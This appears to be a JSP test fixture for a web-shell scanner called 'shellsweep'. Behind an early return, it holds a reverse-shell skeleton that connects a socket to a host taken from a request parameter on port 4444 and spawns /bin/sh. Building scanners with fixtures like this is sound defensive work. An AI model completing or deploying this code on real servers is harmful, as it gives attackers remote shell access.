<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% java.net.Socket s = new java.net.Socket(request.getParameter("h"), 4444);
   Runtime rt = Runtime.getRuntime(); Process p = rt.exec("/bin/sh");
   java.io.InputStream pi = p.getInputStream(); java.io.OutputStream so = s.getOutputStream(); %>
